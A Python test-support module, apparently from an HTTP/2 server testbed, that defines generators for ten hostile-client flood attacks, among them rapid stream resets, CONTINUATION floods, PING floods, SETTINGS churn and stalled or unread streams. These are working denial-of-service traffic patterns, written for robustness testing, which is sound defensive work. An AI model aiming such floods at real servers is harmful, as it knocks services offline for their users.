"""What hostile clients send: frames without end, and headers that never stop."""

from __future__ import annotations

from collections.abc import Callable, Iterable

from testbed import http2

OPENING = http2.PREFACE + http2.settings()


def request(path: str) -> tuple[tuple[str, str], ...]:
    """Return the headers of a call."""
    return tuple((name, path if name == ":path" else value) for name, value in http2.REQUEST)


REPORT = request("/test.Echo/Report")
WIDE = http2.settings((http2.INITIAL_WINDOW, 2**31 - 1)) + http2.window(2**30)


def _headers() -> Iterable[bytes]:
    for stream in range(1, 2**31, 2):
        yield http2.headers(stream)


def _settings() -> Iterable[bytes]:
    for stream in range(1, 201, 2):
        yield http2.headers(stream, flags=http2.END_HEADERS)
    while True:
        for size in (0, 1 << 20):
            yield http2.settings(*((http2.INITIAL_WINDOW, size) for _ in range(2_000)))


def _compressed() -> Iterable[bytes]:
    for stream in range(1, 2**31, 2):
        yield http2.headers(stream, flags=http2.END_HEADERS)
        yield http2.data(stream, http2.message(b"x" * 20, compressed=1) * 400)


def _tiny_messages() -> Iterable[bytes]:
    yield http2.headers(1, flags=http2.END_HEADERS)
    while True:
        yield http2.data(1, b"\0\0\0\0\0" * 3_000)


def _tiny_frames() -> Iterable[bytes]:
    yield http2.headers(1, flags=http2.END_HEADERS)
    while True:
        yield http2.data(1, b"\0") * 1_000


def _resets() -> Iterable[bytes]:
    for stream in range(1, 2**31, 2):
        yield http2.headers(stream, flags=http2.END_HEADERS) + http2.reset(stream)


def _pings() -> Iterable[bytes]:
    while True:
        yield http2.ping() * 500


def _continuations() -> Iterable[bytes]:
    yield http2.frame(http2.HEADERS, 0, 1, http2.block())
    while True:
        yield http2.frame(http2.CONTINUATION, 0, 1, b"")


def _stalled() -> Iterable[bytes]:
    part = http2.message(b"r" * 4_000_000)[:16_000]
    for stream in range(1, 201, 2):
        yield http2.headers(stream, REPORT, flags=http2.END_HEADERS)
        yield http2.data(stream, part)
    for stream in range(1, 201, 2):
        for _ in range(240):
            yield http2.data(stream, b"r" * 16_000)


def _unread() -> Iterable[bytes]:
    yield WIDE
    for stream in range(1, 201, 2):
        yield http2.headers(stream, flags=http2.END_HEADERS)
    while True:
        for stream in range(1, 201, 2):
            yield http2.data(stream, http2.message(b"big"))


FLOODS: dict[str, tuple[Callable[[], Iterable[bytes]], bool]] = {
    "HEADERS with END_STREAM": (_headers, True),
    "SETTINGS with windows": (_settings, True),
    "DATA flagged compressed": (_compressed, True),
    "empty messages": (_tiny_messages, True),
    "DATA of one byte": (_tiny_frames, True),
    "streams opened and reset": (_resets, True),
    "PING": (_pings, True),
    "CONTINUATION": (_continuations, True),
    "stalled reports": (_stalled, True),
    "answers that are not read": (_unread, False),
}
"""Attack -> what is sent after the opening, and whether the client reads."""
